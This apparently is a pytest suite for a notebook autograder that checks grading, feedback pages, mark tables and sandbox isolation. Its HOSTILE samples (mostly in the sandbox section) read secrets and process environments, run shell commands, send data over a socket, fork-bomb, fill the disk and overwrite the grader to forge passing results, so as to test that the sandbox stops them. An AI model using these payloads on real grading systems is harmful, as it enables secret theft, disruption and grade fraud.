"""Submissions that are graded: what their exercises are, and where they run."""

import contextlib
import csv
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path
from types import ModuleType

import nbformat
import numpy
import psutil
import pytest
import torch
from labs.__main__ import main
from labs.feedback import file_name
from labs.grade import answer_of, guilty_of, places
from labs.plain import NotPlain, decoded, encoded
from labs.question import Cell, Unusable, needed, read, same, stubs
from labs.question import cells as cells_in
from labs.sandbox import Sandbox, available
from labs.submission import reached
from labs.table import Row, as_text, marks_by_hand, one_line
from labs.verdict import answer, judge, said

ROOT = Path(__file__).resolve().parent.parent
TEMPLATES = Path(__file__).parent / "lab_templates"


def new_code(source, *tags):
    return nbformat.v4.new_code_cell(source, metadata={"tags": list(tags)})


def new_text(source, *tags):
    return nbformat.v4.new_markdown_cell(source, metadata={"tags": list(tags)})


def save(path, cells):
    nbformat.write(nbformat.v4.new_notebook(cells=cells), path)
    return path


def cells_of(path):
    return nbformat.read(path, as_version=4).cells


def grade(out, paths, *words):
    return main(["grade", *map(str, paths), "--out", str(out), "--unsafe", *words])


def table(out, name="exercises"):
    with (out / f"{name}.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def results(out):
    """The results of each student, by exercise."""
    found = {}
    for row in table(out):
        found.setdefault(row["student"], {})[row["exercise"]] = row["result"]
    return found


@pytest.fixture(scope="module")
def handout(tmp_path_factory):
    """The question and the solution of a lab that is not about networks."""
    out = tmp_path_factory.mktemp("handout")
    path = str(TEMPLATES / "line-template.md")
    assert main(["make", path, "--out", str(out), "--no-pdf", "--no-execute"]) == 0
    return out


def filled(handout, **changes):
    """The cells of the solution; each change replaces the cell in which its name is
    bound."""
    cells = cells_of(handout / "line-solution.ipynb")
    cells = [
        cell for cell in cells if "name=hidden" not in cell.metadata.get("tags", [])
    ]
    for name, source in changes.items():
        starts = f"def {name}(", f"class {name}:", f"{name} = "
        (cell,) = [cell for cell in cells if cell.source.startswith(starts)]
        cell.source = source
    return cells


WORDS = "Set the derivative to zero."


@pytest.fixture(scope="module")
def graded(handout, tmp_path_factory):
    """Students and what they hand in, graded once."""
    folder = tmp_path_factory.mktemp("submissions")
    old = save(folder / "right.ipynb", cells_of(handout / "line-question.ipynb"))
    os.utime(old, (1, 1))
    (folder / "again").mkdir()
    cells = filled(handout)
    (answer_cell,) = [c for c in cells if "answer" in c.metadata.get("tags", [])]
    answer_cell.source = WORDS
    save(folder / "again" / "right.ipynb", cells)

    cells = filled(handout, slope="def slope(x, y):\n    return 3.0")
    (name,) = [c for c in cells if "student" in c.metadata.get("tags", [])]
    name.source = "Your name: =Zoë & <b>"
    save(folder / "wrong.ipynb", cells)

    cells = filled(handout, number="number = = 2", Line="class Line:\n    def f(:")
    cells.insert(0, new_code("import os\nos._exit(0)"))
    cells.insert(3, new_code("while True:\n    pass"))
    save(folder / "broken.ipynb", cells)

    forging = "import numpy as np\ndef slope(x, y):\n    return 7.0\n"
    forging += "np.isclose = lambda *_: np.ones(4)\nabs = float = lambda *_: 0.0"
    line = "class Line:\n    __init__ = lambda self, x, y: None\n    predict = lambda *_: [0.0]"
    cells = filled(handout, slope=forging, Line=line)
    save(folder / "forged.ipynb", cells)
    cells = filled(handout)  # all answers as they were written, what is called last
    (slope,) = [c for c in cells if c.source.startswith("def slope(")]
    save(folder / "below.ipynb", [*(c for c in cells if c is not slope), slope])
    (folder / "none.ipynb").write_text("{", encoding="utf-8")
    out = folder / "out"
    options = ["--question", str(handout / "line-question.ipynb"), "--seconds", "3"]
    options += ["--solution", str(handout / "line-solution.ipynb"), "--jobs", "2"]
    paths = sorted(folder.rglob("*.ipynb"))
    assert grade(out, paths, *options) == 0
    return out, paths, options


def test_each_exercise_has_a_row(graded):
    out, _, _ = graded
    names = ["Paper", "slope", "line", "number", "hidden"]
    found = results(out)
    assert {
        student: list(rows) for student, rows in found.items()
    } == dict.fromkeys(
        ["'=Zoë & <b>", "below", "broken", "forged", "none", "right"], names
    )
    assert list(found["right"].values()) == ["to be read"] + ["passed"] * 4
    assert list(found["below"].values()) == ["to be read"] + ["passed"] * 4
    assert set(found["none"].values()) == {"error"}
    wrong = found["'=Zoë & <b>"]
    assert wrong["slope"] == wrong["hidden"] == "failed"
    assert wrong["number"] == "passed"
    assert wrong["line"] == "failed"


def test_a_cell_that_ends_all_ends_itself_only(graded):
    out, _, _ = graded
    found = results(out)["broken"]
    assert found["slope"] == found["hidden"] == "passed"
    assert found["line"] == found["number"] == "error"
    rows = [row for row in table(out) if row["student"] == "broken"]
    said = {row["exercise"]: row["message"] for row in rows}
    assert "code cell 8, line 1: SyntaxError" in said["number"]


def test_who_exchanges_what_checks_use_gets_no_marks(graded):
    out, _, _ = graded
    found = results(out)["forged"]
    assert found["slope"] == found["line"] == "failed"


def test_marks_and_totals(graded):
    out, _, _ = graded
    rows = {row["student"]: row for row in table(out, "students")}
    right = rows["right"]
    assert [right[name] for name in right if "(" in name] == [
        "",
        "4",
        "2",
        "1",
        "1",
        "8",
    ]
    assert right["note"].startswith("the latest of 2")
    assert rows["none"]["total (11)"] == "0"


def test_feedback_shows_messages_and_nothing_of_the_solution(graded):
    out, _, _ = graded
    pages = {
        path.name: path.read_text(encoding="utf-8") for path in out.rglob("*.html")
    }
    assert set(pages) == {
        *(
            "right.html",
            "below.html",
            "broken.html",
            "forged.html",
            "none.html",
            "Zoë_b.html",
        ),
        "summary.html",
    }
    assert "does not hold: abs(slope(x, y) - 2)" in pages["Zoë_b.html"]
    assert "=Zoë &amp; &lt;b&gt;" in pages["Zoë_b.html"]
    assert "The commonest mistakes" in pages["summary.html"]
    for text in pages.values():
        assert "secret" not in text


def test_marks_entered_by_hand_are_kept(graded, handout):
    out, paths, options = graded
    text = (out / "exercises.csv").read_text(encoding="utf-8-sig")
    before = "right,Paper,to be read,,,3"
    assert before in text
    again = out / "again"
    again.mkdir()
    changed = text.replace(before, "right,Paper,to be read,,2.5,3")
    (again / "exercises.csv").write_text(changed, encoding="utf-8")
    assert (
        grade(again, [path for path in paths if path.stem == "right"], *options)
        == 0
    )
    (row,) = table(again, "students")
    assert row["total (11)"] == "10.5"
    assert "right,Paper,to be read,,2.5,3" in (again / "exercises.csv").read_text(
        "utf-8"
    )


# --------------------------------------------------------------------- the question


def test_a_question_whose_check_proves_nothing_is_refused(tmp_path, capsys):
    asked = [new_code("f = 1"), new_code("f == 1", "check", "name=idle")]
    path = save(tmp_path / "question.ipynb", asked)
    assert grade(tmp_path / "out", [path], "--question", str(path)) == 2
    said = capsys.readouterr().err
    assert f"{path}:1: idle passes with nothing filled in" in said
    assert not (tmp_path / "out" / "exercises.csv").exists()


def test_questions_that_cannot_be_graded(tmp_path, capsys):
    empty = save(tmp_path / "empty.ipynb", [new_text("# Nothing")])
    with pytest.raises(
        Unusable, match="has no cell that is tagged check or answer"
    ):
        read(empty)
    odd = save(
        tmp_path / "odd.ipynb", [new_code("f()", "check", "name=a", "marks=x")]
    )
    with pytest.raises(Unusable, match="the marks of a are no number"):
        read(odd)
    assert (
        grade(tmp_path / "out", [empty], "--question", str(tmp_path / "no.ipynb"))
        == 2
    )
    assert "no.ipynb:1: there is no such file" in capsys.readouterr().err
    assert grade(tmp_path / "out", [empty], "--question", str(empty)) == 2
    assert "empty.ipynb:1: has no cell" in capsys.readouterr().err


def test_names_of_exercises_come_from_tags_or_headings(tmp_path):
    path = save(
        tmp_path / "q.ipynb",
        [
            *(new_text("# A\n## Exercise: One"), new_text("### Answer")),
            *(new_text("…", "answer", "marks=2"), new_code("f()", "check")),
            *(
                new_code("g()", "check", "name=two", "marks=1.5"),
                new_code("", "check"),
            ),
        ],
    )
    found = [(each.name, each.marks) for each in read(path).exercises]
    assert found == [("One", 2), ("One (2)", 1), ("two", 1.5)]


@pytest.mark.parametrize(
    ("one", "other", "expected"),
    [
        ("f('a')  # done", 'f("a")\n\n', True),
        ("f(a);", "f(a)", True),
        ("f(a)", "f(b)", False),
        ("f(", "f(", True),
        ("", "f", False),
        ("%time f(a)", "%time f(a)\n", True),
    ],
)
def test_checks_are_the_same_code(one, other, expected):
    assert same(one, other) == expected


def given(*sources):
    return [
        Cell("code", number, source) for number, source in enumerate(sources, 1)
    ]


def test_what_a_check_needs_is_what_the_question_left_open():
    cells = given(
        "import numpy as np\nfrom a import b",
        "def f(x):\n    raise NotImplementedError",
        "def run():\n    return f(1)",
        "def other():\n    '''Text.'''\n    raise NotImplementedError",
        "class A:\n    def g(self):\n        raise NotImplementedError\n    def h(self): return 1",
    )
    names, sources = needed("import c\nassert np.all(run() == b == c.d)", cells)
    assert names == {"run"}
    assert sources == cells[1:3] and stubs(sources) == {"f"}
    assert stubs(cells) == {"f", "other", "A.g"}


def test_errors_belong_to_what_needs_their_cells():
    cells = given("import a", "def f(): return a", "def g(): 1 /", "b = 1")
    errors = dict.fromkeys((1, 2, 3, 4), "wrong")
    assert guilty_of({"f"}, errors, cells) == [(1, "wrong"), (2, "wrong")]
    assert guilty_of({"g"}, errors, cells) == [(3, "wrong")]
    assert guilty_of({"f"}, {4: "wrong"}, cells) == []


def test_what_a_check_reaches_is_what_its_functions_read():
    names = {}
    text = "class A:\n    def f(self): return [g() for _ in 'a']\ndef g(): return x\nx = []"
    exec(text, names)  # noqa: S102
    before = reached(["A"], names)
    assert {"A", "g", "x"} <= {name for name, _ in before}
    names["other"] = 1
    assert reached(["A"], names) == before
    names["x"] = [1]
    assert reached(["A"], names) != before
    del names["g"]
    assert reached(["A"], names) != before


def test_an_answer_is_what_the_question_does_not_have(tmp_path):
    asked = [new_text("# A"), new_text("Yours.", "answer"), new_text("# B")]
    question = read(save(tmp_path / "q.ipynb", asked))
    (exercise,) = question.exercises

    def found(*texts):
        path = save(tmp_path / "theirs.ipynb", [new_text(text) for text in texts])
        return answer_of(exercise, cells_in(path), question.cells)

    assert found("# A\n\nYours.\n\n# B") == found("# A", "# B") == ""
    assert found("# A\n\nMine, not yours.\n\n# B") == "Mine, not yours."
    assert found("# A", "Mine", "# B") == "Mine"


def test_a_check_stands_at_its_last_copy(tmp_path):
    path = save(
        tmp_path / "q.ipynb", [new_code("f(a)", "check"), new_code("f(b)", "check")]
    )
    checks = read(path).exercises
    theirs = [*given("f(a)", "x", "f( a )", "f(c)")]
    assert places(theirs, checks) == {3: [0]}


# ------------------------------------------------------------------------- verdicts


class Said:
    def __init__(self, status, message="m", **names):
        self.status, self.message = status, message
        vars(self).update(names)


@pytest.mark.parametrize(
    ("value", "result", "share"),
    [
        (None, "passed", 1),
        (True, "passed", 1),
        (numpy.bool_(False), "failed", 0),
        ((False, "why"), "failed", 0),
        ((0.5, "half"), "partly", 0.5),
        (1, "passed", 1),
        (0.0, "failed", 0),
        (42, "error", 0),
        ("text", "error", 0),
        ((1, 2, 3), "error", 0),
        (float("nan"), "error", 0),
        (Said("right"), "passed", 1),
        (Said("unfilled"), "unfilled", 0),
        (Said("timeout"), "error", 0),
        (Said("right, but not by hand"), "failed", 0),
        (Said("right", mistake="slip"), "failed", 0),
    ],
)
def test_what_a_check_may_return(value, result, share):
    found = said(value)
    assert (found["result"], found["share"]) == (result, share)


class Kept:
    """Modules that nobody has changed."""

    def restore(self):
        return 0


def judged(check, *cells, asked=(), control=False, stub=""):
    names = {}
    for number, source in enumerate(cells, 1):
        exec(compile(source, f"<cell {number}>", "exec"), names)  # noqa: S102
    wanted, _ = needed(check, [])
    exercise = {"source": check, "needed": sorted(wanted), "asked": list(asked)}
    exercise |= {"imports": [], "stubs": [stub]}
    return judge(exercise, names, Kept(), control)


@pytest.mark.parametrize(
    ("check", "cells", "result", "message"),
    [
        ("assert f() == 1", ["def f(): return 1"], "passed", ""),
        (
            "assert f() == 2",
            ["def f(): return 1"],
            "failed",
            "does not hold: f() == 2",
        ),
        ("assert f(), 'Not 0.'", ["def f(): return 0"], "failed", "Not 0."),
        (
            "f()",
            ["def f(): raise NotImplementedError"],
            "unfilled",
            "is not filled in",
        ),
        ("a + 1", ["a = ..."], "unfilled", "a is not filled in"),
        ("a == 1", ["a = ..."], "unfilled", "a is not filled in"),
        ("f()", [], "unfilled", "f is not defined in the notebook"),
        (
            "f()",
            ["x = 1", "def f():\n    1 / 0"],
            "error",
            "code cell 2, line 2: ZeroDiv",
        ),
        ("f()", ["def f(): return g()"], "error", "code cell 1, line 1: NameError"),
    ],
)
def test_what_happens_in_a_check(check, cells, result, message):
    found = judged(check, *cells)
    assert found["result"] == result
    assert found["message"].startswith(message)


@pytest.mark.parametrize(
    ("body", "result"),
    [
        ("pass", "unfilled"),
        ("def other(self): return 1", "unfilled"),
        ("def total(self): return super().total()", "unfilled"),
        ("def total(self): return self[0] + self[1]", "passed"),
    ],
)
@pytest.mark.parametrize("check", ["A([1, 2]).total() == 3", "B.a.total() == 3"])
def test_what_is_inherited_is_unfilled(body, result, check):
    cell = f"from lab_of_the_test import Library\nclass A(Library):\n    {body}"
    cell += "\nclass B:\n    a = A([1, 2])"
    module = ModuleType("lab_of_the_test")
    text = "class Library(list):\n    def total(self): return sum(self)"
    exec(text, vars(module))  # noqa: S102
    sys.modules["lab_of_the_test"] = module
    try:
        found = judged(f"assert {check}", cell, asked=["A.total"])
    finally:
        del sys.modules["lab_of_the_test"]
    assert found["result"] == result


def test_a_control_uses_the_stub():
    stub = "def f():\n    raise NotImplementedError"
    check = "assert f() == 1"
    assert judged(check, "def f(): return 1", stub=stub)["result"] == "passed"
    found = judged(check, "def f(): return 1", stub=stub, control=True)
    assert found["result"] == "unfilled"


def test_plain_values_survive_and_others_are_refused():
    values = [
        None,
        True,
        1.5,
        "a",
        (1, [2]),
        {"a": {1, 2}},
        b"x",
        1j,
        numpy.float64(2),
    ]
    for value in values:
        assert decoded(encoded(value)) == value
    array = numpy.arange(6.0).reshape(2, 3)
    assert numpy.array_equal(decoded(encoded(array)), array)
    assert torch.equal(decoded(encoded(torch.tensor(array))), torch.tensor(array))

    class Sly(int):
        __eq__ = lambda *_: True
        __hash__ = int.__hash__

    for value in Sly(1), [Sly(1)], len, numpy.array([object()]), {"a": Sly(1)}:
        with pytest.raises(NotPlain):
            encoded(value)


# --------------------------------------------------------------------------- tables


def test_values_of_tables():
    assert as_text("=1+1") == "'=1+1"
    assert one_line("a\nb\0c") == "a b c"
    assert Row("a", 2, "to be read").counted is None
    assert Row("a", 2, "to be read", by_hand="1,5").counted == 1.5
    assert Row("a", 2, "passed", marks=2, by_hand="x").counted == 2
    taken = set()
    names = [
        file_name(name, taken) for name in ("Ann B", "../Ann B", "///", "Ann_B")
    ]
    assert names == ["Ann_B.html", "Ann_B_2.html", "student.html", "Ann_B_3.html"]


def test_a_table_saved_by_a_spreadsheet_is_read(tmp_path):
    path = tmp_path / "exercises.csv"
    path.write_text(
        "\ufeffstudent;exercise;by hand\n'=A;B;2\nC;D;\n", encoding="utf-8"
    )
    assert marks_by_hand(path) == {("=A", "B"): "2"}
    assert marks_by_hand(tmp_path / "none.csv") == {}


# -------------------------------------------------------------------------- sandboxes


def test_without_a_sandbox_nothing_runs(tmp_path, capsys, monkeypatch, handout):
    monkeypatch.setattr("labs.__main__.available", list)
    question = handout / "line-question.ipynb"
    words = ["grade", str(question), "--question", str(question)]
    assert main([*words, "--out", str(tmp_path / "out")]) == 2
    said = capsys.readouterr().err
    assert (
        "Without a sandbox, a notebook can read and change whatever you can" in said
    )
    assert "go on with --unsafe" in said
    assert not (tmp_path / "out").exists()


SECRET = "a secret of the instructor"
HOSTILE = {
    "reads": "from pathlib import Path\nstolen = Path({beside!r}).read_text()",
    "environment": """
import os
stolen = str(dict(os.environ))
for pid in os.listdir("/proc"):
    try:
        stolen += open(f"/proc/{{pid}}/environ").read()
    except OSError:
        pass
""",
    "shell": "import subprocess\nsubprocess.run('echo 1 > {target}', shell=True, check=True)",
    "ctypes": """
import ctypes
libc = ctypes.CDLL(None)
assert libc.open(b"{target}", 0o101, 0o600) >= 0""",
    "numpy": "import numpy\nnumpy.save(open({target!r}, 'wb'), numpy.zeros(3))",
    "network": """
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        link = socket.socket(socket.AF_INET, kind)
        link.settimeout(1)
        link.connect(("127.0.0.1", {port}))
        link.send(b"stolen")
    except OSError:
        pass
1 / 0""",
    "outlives": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3000)
        os._exit(0)
    os._exit(0)
1 / 0""",
    "many": """
import os, time
for _ in range(200):
    if os.fork() == 0:
        time.sleep(3000)
        os._exit(0)
time.sleep(60)""",
    "disk": """
for number in range(100):
    with open(f"large{{number}}", "wb") as file:
        file.write(bytes(16 * 2**20))
        file.flush()""",
    "redefines": """
import builtins, numpy
import labs.verdict, labs.submission
labs.verdict.judge = labs.submission.judge = lambda *_: {{
    "result": "passed", "share": 1.0, "mistakes": "", "message": ""}}
labs.verdict.said = labs.verdict.raised = lambda *_: labs.verdict.judge()
builtins.abs = lambda *_: 0.0
numpy.isclose = numpy.mean = lambda *_: 1.0
abs = builtins.abs
def slope(x, y):
    return 7.0
class Line:
    def __init__(self, x, y): pass
    def predict(self, x): return x
number = 3""",
    "files": """
import json, os
for kind in ({{"exercise": n, "result": "passed", "share": 1.0, "mistakes": "", "message": ""}}
             for n in range(4)):
    for pid in ["self", str(os.getppid()), "1", "2", "3"]:
        for number in range(64):
            try:
                handle = os.open(f"/proc/{{pid}}/fd/{{number}}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(handle, b"\\n" + json.dumps(kind).encode() + b"\\n")
            except OSError:
                pass
for number in range(3, 64):
    for n in range(4):
        line = json.dumps({{"exercise": n, "result": "passed", "share": 1.0,
                           "mistakes": "", "message": ""}})
        try:
            os.write(number, b"\\n" + line.encode() + b"\\n")
        except OSError:
            pass""",
}


TELLS = "def slope(x, y):\n    raise ValueError(stolen)"


def attack(tmp_path, handout, kind, monkeypatch):
    """Grade hostile submissions; whether the instructor's network was reached."""
    monkeypatch.setenv("SECRET", SECRET)
    away = tmp_path / "away"
    away.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(away))
    beside, target = tmp_path / "beside.txt", tmp_path / "target"
    beside.write_text(SECRET, encoding="utf-8")
    folder = tmp_path / "submissions"
    folder.mkdir()
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.5)
        port = server.getsockname()[1]
        for name, text in HOSTILE.items():
            source = text.format(
                beside=str(beside), target=str(target), secret=SECRET, port=port
            )
            cells = cells_of(handout / "line-question.ipynb")
            cells.append(new_code(source))
            cells += [new_code(TELLS)] if "stolen = " in source else []
            save(folder / f"{name}.ipynb", cells)
        paths = sorted(folder.glob("*.ipynb"))
        monkeypatch.setattr("labs.__main__.choose", lambda *_: Sandbox(kind))
        question = str(handout / "line-question.ipynb")
        assert (
            grade(
                tmp_path / "out", paths, "--question", question, "--seconds", "30"
            )
            == 0
        )
        found = results(tmp_path / "out")
        assert sorted(found) == sorted(HOSTILE)
        assert not list(away.iterdir())
        for process in psutil.process_iter():
            with contextlib.suppress(psutil.Error):
                known = [*process.cmdline(), *process.environ().values()]
                assert str(away) not in " ".join(known), process
        try:
            server.accept()[0].close()
        except TimeoutError:
            return False
        return True


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["bubblewrap", "landlock"])
def test_hostile_submissions_get_no_marks_and_touch_nothing(
    tmp_path, monkeypatch, handout, kind
):
    works = available()
    assert works, (
        "neither bubblewrap nor Landlock works here: notebooks are not safe"
    )
    if kind not in works:
        pytest.skip(f"{kind} does not work here; {works[0]} does, and is tried")
    assert not attack(tmp_path, handout, kind, monkeypatch)
    names = {path.name for path in tmp_path.iterdir()}
    assert names == {"away", "beside.txt", "out", "submissions"}
    for row in table(tmp_path / "out"):
        assert row["result"] not in ("passed", "partly"), row
        assert SECRET not in row["message"]


@pytest.mark.slow
def test_the_same_submissions_get_through_where_there_is_no_sandbox(
    tmp_path, monkeypatch, handout
):
    assert attack(tmp_path, handout, "none", monkeypatch)
    assert (tmp_path / "target").exists()
    told = {
        row["student"]
        for row in table(tmp_path / "out")
        if SECRET in row["message"]
    }
    assert "reads" in told


def test_answers_are_dictionaries_of_one_kind():
    assert set(answer("passed")) == {"result", "share", "mistakes", "message"}


# ------------------------------------------------------------ five labs, ten submissions

TEXT_ONLY = """
# Reading

## First

#!TAG HWBEGIN
#!MSG *Yours.*
A secret.
#!TAG HWEND

## Second

#!TAG HWBEGIN
#!MSG *Yours.*
Another secret.
#!TAG HWEND
"""
PICTURES = """
![Points](points.png)

```python
#!TAG HWBEGIN
#!MSG The number of points in the picture.
count = 4
#!TAG HWEND
```

```python tags=["check", "name=count"]
#!TAG SKIPQUESTEXEC
assert count == 4, f"Not {count}."
```
"""
DATA = """
```python
import csv

with open("points.csv") as file:
    rows = list(csv.reader(file))
```

```python
def mean(rows):
    #!TAG HWBEGIN
    return sum(float(y) for _, y in rows) / len(rows)
    #!TAG HWEND
```

```python tags=["check", "name=mean"]
#!TAG SKIPQUESTEXEC
mean(rows) == 4, "The mean of the second column."
```
"""
FRONT = (
    "---\njupyter:\n  jupytext:\n    text_representation:\n      extension: .md\n"
)
FRONT += "      format_name: markdown\n---\n"


def template_of(name, folder):
    """The path of a template; what it needs is beside it."""
    (folder / "points.png").write_bytes(b"no picture")
    (folder / "points.csv").write_text("0,2\n1,4\n2,6\n", encoding="utf-8")
    if name == "line":
        return TEMPLATES / "line-template.md"
    if name == "book":
        return ROOT / "book" / "lab.md"
    texts = {"text": TEXT_ONLY, "pictures": PICTURES, "data": DATA}
    path = folder / "lab.md"
    path.write_text(FRONT + texts[name], encoding="utf-8")
    return path


def variants(asked, solved):
    """Ten notebooks, and the results that all their checks may have; and of answers."""
    hidden = [c for c in solved if "name=hidden" not in c.metadata.get("tags", [])]
    checks = [c for c in hidden if "check" in c.metadata.get("tags", [])]
    others = [c for c in hidden if c not in checks]
    code = [c for c in asked if c.cell_type == "code"]
    text = [c for c in solved if c.cell_type == "markdown"]
    loop, leave = (
        new_code("while True:\n    pass"),
        new_code("import os\nos._exit(1)"),
    )
    said = [new_code(c.source + "  # mine\n\n") for c in checks]
    passed, read_ = {"passed"}, {"to be read"}
    return {
        "right": (hidden, passed, read_),
        "unfilled": (asked, {"unfilled"}, {"unfilled"}),
        "without_checks": (others, passed, read_),
        "changed_checks": (others + said, passed, read_),
        "endless": ([loop, *hidden], passed, read_),
        "leaves": ([leave, *hidden], passed, read_),
        "checks_first": ([*checks, *others], passed, read_),
        "empty": ([], {"unfilled"}, {"unfilled"}),
        "code_only": (code, {"unfilled"}, {"unfilled"}),
        "text_only": (text, {"unfilled"}, read_),
    }


@pytest.mark.slow
@pytest.mark.parametrize("name", ["text", "pictures", "data", "line", "book"])
def test_labs_of_all_kinds(tmp_path, name):
    path = template_of(name, tmp_path)
    out = tmp_path / "handout"
    words = ["make", str(path), "--out", str(out), "--no-pdf", "--no-execute"]
    assert main(words) == 0
    question, solution = sorted(out.glob("*.ipynb"))
    folder = tmp_path / "submissions"
    folder.mkdir()
    expected = variants(cells_of(question), cells_of(solution))
    for student, (cells, _, _) in expected.items():
        save(folder / f"{student}.ipynb", cells)
    words = [
        "--question",
        str(question),
        "--solution",
        str(solution),
        "--seconds",
        "5",
    ]
    assert grade(tmp_path / "out", sorted(folder.iterdir()), *words) == 0
    found = results(tmp_path / "out")
    kinds = {
        each.name: each.is_check for each in read(question, solution).exercises
    }
    assert set(found) == set(expected)
    for student, (_, checks, answers) in expected.items():
        rows = found[student]
        assert rows.keys() == kinds.keys()
        for exercise, result in rows.items():
            wanted = checks if kinds[exercise] else answers
            assert result in wanted, (student, exercise, result)


@pytest.mark.slow
@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_grading_that_is_stopped_leaves_nothing(tmp_path, handout, number):
    cells = cells_of(handout / "line-question.ipynb")
    cells.append(new_code("while True:\n    pass"))
    path = save(tmp_path / "endless.ipynb", cells)
    away = tmp_path / "away"
    away.mkdir()
    command = [sys.executable, "-m", "labs", "grade", path, "--question", path]
    command += ["--unsafe", "--out", tmp_path / "out"]
    environment = os.environ | {"PYTHONPATH": os.pathsep.join(sys.path)}
    environment |= {"TMPDIR": str(away)}
    with subprocess.Popen(
        command, env=environment, stderr=subprocess.PIPE, encoding="utf-8"
    ) as process:
        own, started = psutil.Process(process.pid), []
        while not started:
            assert process.poll() is None
            time.sleep(2)
            started = own.children(recursive=True)
        process.send_signal(number)
        said = process.communicate(timeout=30)[1]
    assert f"labs: stopped by {number.name}" in said
    assert process.returncode == 128 + number
    _, alive = psutil.wait_procs(started, timeout=5)
    assert not alive
    assert not list(away.iterdir())


def test_a_temporary_folder_may_have_a_long_name(tmp_path, monkeypatch, handout):
    """The address of a socket holds some hundred bytes."""
    long = tmp_path / ("x" * 120)
    long.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(long))
    monkeypatch.setattr("labs.__main__.choose", lambda *_: Sandbox("none"))
    path = save(tmp_path / "right.ipynb", filled(handout))
    question = str(handout / "line-question.ipynb")
    assert grade(tmp_path / "out", [path], "--question", question) == 0
    assert results(tmp_path / "out")["right"]["slope"] == "passed"
